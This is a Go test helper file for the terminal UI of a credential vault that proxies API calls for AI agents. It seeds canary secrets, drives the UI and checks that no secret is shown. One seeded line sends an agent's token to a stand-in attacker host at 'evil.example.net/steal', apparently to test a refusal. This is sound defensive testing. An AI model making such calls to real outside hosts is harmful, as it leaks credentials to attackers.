package tui_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/agentkeys/agentkeys"
	"github.com/agentkeys/agentkeys/internal/testkit"
	"github.com/agentkeys/agentkeys/tui"
	tea "github.com/charmbracelet/bubbletea"
)

// clock is the fixed time every test sees, so goldens are stable.
var clock = time.Date(2026, 11, 26, 9, 30, 0, 0, time.UTC)

func fixedNow() time.Time { return clock }

// okTransport answers every upstream request with 200 and a small body, so
// audit rows have stable hosts and no test touches the network.
type okTransport struct{}

func (okTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Body != nil {
		io.Copy(io.Discard, r.Body)
		r.Body.Close()
	}
	return &http.Response{
		StatusCode: http.StatusOK, Status: "200 OK", Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
		Header: http.Header{"Content-Type": {"application/json"}}, Body: io.NopCloser(strings.NewReader(`{"ok":true}`)),
		ContentLength: 11, Request: r,
	}, nil
}

// mustOpenVault creates a real local vault in a temporary home, unlocked by
// a random master key, joined to the in-process proxy (upstreams answered by
// okTransport), with the fixed clock.
func mustOpenVault(tb testing.TB) *testkit.Vault {
	tb.Helper()
	return testkit.OpenVault(tb, testkit.VaultOptions{Now: fixedNow, Transport: okTransport{}, Keychain: &testkit.Keychain{}})
}

func mustCreateCredential(tb testing.TB, v agentkeys.Vault, name string, t agentkeys.CredentialType, hosts []string, s agentkeys.Secret) *agentkeys.Credential {
	tb.Helper()
	c, err := v.CreateCredential(context.Background(), &agentkeys.CredentialInput{Name: name, Type: t, AllowedHosts: hosts, Secret: s})
	if err != nil {
		tb.Fatalf("create credential %s: %v", name, err)
	}
	return c
}

func mustCreateAgent(tb testing.TB, v agentkeys.Vault, name string) *agentkeys.Agent {
	tb.Helper()
	a, err := v.CreateAgent(context.Background(), name)
	if err != nil {
		tb.Fatalf("create agent %s: %v", name, err)
	}
	return a
}

func mustAssign(tb testing.TB, v agentkeys.Vault, a *agentkeys.Agent, c *agentkeys.Credential) string {
	tb.Helper()
	g, err := v.AssignCredential(context.Background(), a.ID, c.ID)
	if err != nil {
		tb.Fatalf("assign: %v", err)
	}
	return g.ProxyToken
}

// proxied makes one request through the vault's proxy with token and
// returns the status (or the refusal's status).
func proxied(tb testing.TB, v agentkeys.Vault, token, method, url string) int {
	tb.Helper()
	resp, err := v.Proxy(context.Background(), &agentkeys.ProxyRequest{Token: token, Method: method, URL: url})
	if err != nil {
		return agentkeys.StatusForCode(agentkeys.ErrorCode(err))
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode
}

// seed fills v with the deterministic data the goldens show.
func seed(tb testing.TB, v agentkeys.Vault) {
	tb.Helper()
	resend := mustCreateCredential(tb, v, "Resend Production", agentkeys.APIKey, nil, agentkeys.Secret{Value: "re_canary_resend"})
	stripe := mustCreateCredential(tb, v, "Stripe test", agentkeys.BasicAuth, nil, agentkeys.Secret{Username: "sk_test", Password: "pw_canary"})
	gh := mustCreateCredential(tb, v, "GitHub bot", agentkeys.CustomHeader, nil, agentkeys.Secret{Headers: []agentkeys.Header{{Name: "Authorization", Value: "token gh_canary"}}})
	maps := mustCreateCredential(tb, v, "Maps", agentkeys.QueryParam, []string{"maps.googleapis.com"}, agentkeys.Secret{Param: "key", Value: "maps_canary"})
	mapsExpiry := clock.Add(5 * 24 * time.Hour)
	if _, err := v.UpdateCredential(context.Background(), maps.ID, &agentkeys.CredentialUpdate{ExpiresAt: &mapsExpiry}); err != nil {
		tb.Fatal(err)
	}
	mustCreateCredential(tb, v, "Dashboard session", agentkeys.Cookie, []string{"app.example.com", "*.example.com"}, agentkeys.Secret{Value: "sid=cookie_canary; csrf=x"})
	support := mustCreateAgent(tb, v, "support-bot")
	deploy := mustCreateAgent(tb, v, "deploy-script")
	mustCreateAgent(tb, v, "idle-agent")
	t1 := mustAssign(tb, v, support, resend)
	mustAssign(tb, v, support, stripe)
	t3 := mustAssign(tb, v, deploy, gh)
	proxied(tb, v, t1, "POST", "https://api.resend.com/emails?secret=1")
	proxied(tb, v, t3, "GET", "https://api.github.com/repos/acme/app")
	proxied(tb, v, t1, "GET", "https://evil.example.net/steal")
}

// seedCanaries are the secret values seed stores; no view may show them.
var seedCanaries = []string{"re_canary_resend", "pw_canary", "gh_canary", "maps_canary", "cookie_canary"}

// newApp builds the app over v with test options.
func newApp(v agentkeys.Vault, opts tui.Options) tea.Model {
	if opts.Now == nil {
		opts.Now = fixedNow
	}
	if opts.Location == nil {
		opts.Location = time.UTC
	}
	if opts.PollInterval == 0 {
		opts.PollInterval = time.Millisecond
	}
	return tui.New(v, opts)
}

// driver runs a model synchronously: each message goes through Update and
// every command it returns runs to completion, its messages fed back in,
// until nothing is left. The audit poll timer is not followed.
type driver struct {
	tb testing.TB
	m  tea.Model
	// quit is set when the model returned tea.Quit.
	quit bool
}

func start(tb testing.TB, m tea.Model, w, h int) *driver {
	tb.Helper()
	d := &driver{tb: tb, m: m}
	d.send(tea.WindowSizeMsg{Width: w, Height: h})
	d.run(m.Init())
	return d
}

func (d *driver) send(msgs ...tea.Msg) *driver {
	d.tb.Helper()
	for _, msg := range msgs {
		var cmd tea.Cmd
		d.m, cmd = d.m.Update(msg)
		d.run(cmd)
	}
	return d
}

func (d *driver) run(cmd tea.Cmd) {
	d.tb.Helper()
	queue := []tea.Cmd{cmd}
	for n := 0; len(queue) > 0; n++ {
		if n > 10000 {
			d.tb.Fatal("driver: commands do not settle")
		}
		c := queue[0]
		queue = queue[1:]
		if c == nil {
			continue
		}
		msg := c()
		switch msg := msg.(type) {
		case nil:
		case tea.BatchMsg:
			queue = append(queue, msg...)
		case tea.QuitMsg:
			d.quit = true
		default:
			if tui.IsTick(msg) || strings.HasSuffix(typeName(msg), "BlinkMsg") || strings.HasSuffix(typeName(msg), "initialBlinkMsg") {
				continue
			}
			var next tea.Cmd
			d.m, next = d.m.Update(msg)
			queue = append(queue, next)
		}
	}
}

// keys sends key presses: named keys in brackets ("<tab>", "<enter>",
// "<esc>", "<ctrl+s>", "<down>" …), everything else typed rune by rune.
func (d *driver) keys(s string) *driver {
	d.tb.Helper()
	for len(s) > 0 {
		if s[0] == '<' {
			if end := strings.IndexByte(s, '>'); end > 1 {
				d.send(namedKey(d.tb, s[1:end]))
				s = s[end+1:]
				continue
			}
		}
		r := []rune(s)[0]
		d.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{r}})
		s = s[len(string(r)):]
	}
	return d
}

// paste sends s as one bracketed paste, the way a terminal delivers it.
func (d *driver) paste(s string) *driver {
	d.tb.Helper()
	return d.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(s), Paste: true})
}

func namedKey(tb testing.TB, name string) tea.KeyMsg {
	tb.Helper()
	named := map[string]tea.KeyType{
		"tab": tea.KeyTab, "shift+tab": tea.KeyShiftTab, "enter": tea.KeyEnter, "esc": tea.KeyEsc,
		"up": tea.KeyUp, "down": tea.KeyDown, "left": tea.KeyLeft, "right": tea.KeyRight,
		"pgdown": tea.KeyPgDown, "pgup": tea.KeyPgUp, "home": tea.KeyHome, "end": tea.KeyEnd,
		"ctrl+s": tea.KeyCtrlS, "ctrl+c": tea.KeyCtrlC, "ctrl+n": tea.KeyCtrlN, "ctrl+x": tea.KeyCtrlX,
		"ctrl+r": tea.KeyCtrlR, "backspace": tea.KeyBackspace, "space": tea.KeySpace,
	}
	t, ok := named[name]
	if !ok {
		tb.Fatalf("unknown key <%s>", name)
	}
	return tea.KeyMsg{Type: t}
}

func (d *driver) view() string { return d.m.View() }

// mustSee fails unless the view contains every string.
func (d *driver) mustSee(want ...string) {
	d.tb.Helper()
	v := d.view()
	for _, w := range want {
		if !strings.Contains(v, w) {
			d.tb.Fatalf("view does not contain %q:\n%s", w, v)
		}
	}
}

// mustNotSee fails if the view contains any of the strings.
func (d *driver) mustNotSee(bad ...string) {
	d.tb.Helper()
	v := d.view()
	for _, b := range bad {
		if b != "" && strings.Contains(v, b) {
			d.tb.Fatalf("view contains %q:\n%s", b, v)
		}
	}
}

func typeName(v any) string {
	return strings.TrimPrefix(strings.TrimPrefix(fmtType(v), "*"), "")
}

// countingVault counts the calls that reach the vault.
type countingVault struct {
	agentkeys.Vault
	calls atomic.Int64
}

func (c *countingVault) ListCredentials(ctx context.Context) ([]*agentkeys.Credential, error) {
	c.calls.Add(1)
	return c.Vault.ListCredentials(ctx)
}

func (c *countingVault) ListAgents(ctx context.Context) ([]*agentkeys.Agent, error) {
	c.calls.Add(1)
	return c.Vault.ListAgents(ctx)
}

func (c *countingVault) ListAudit(ctx context.Context, f agentkeys.AuditFilter) ([]*agentkeys.AuditEvent, error) {
	c.calls.Add(1)
	return c.Vault.ListAudit(ctx, f)
}

func (c *countingVault) Status(ctx context.Context) (*agentkeys.WorkspaceStatus, error) {
	c.calls.Add(1)
	return c.Vault.Status(ctx)
}

func (c *countingVault) FindCredential(ctx context.Context, ref string) (*agentkeys.Credential, error) {
	c.calls.Add(1)
	return c.Vault.FindCredential(ctx, ref)
}

func (c *countingVault) FindAgent(ctx context.Context, ref string) (*agentkeys.Agent, error) {
	c.calls.Add(1)
	return c.Vault.FindAgent(ctx, ref)
}

// stableVault reports a fixed vault location, so goldens do not depend on
// the temporary directory.
type stableVault struct{ agentkeys.Vault }

func (s stableVault) Status(ctx context.Context) (*agentkeys.WorkspaceStatus, error) {
	st, err := s.Vault.Status(ctx)
	if st != nil {
		st.Location = "/home/ada/.agentkeys/vault.db"
		st.ID = "ws_golden"
	}
	return st, err
}

func fmtType(v any) string { return fmt.Sprintf("%T", v) }
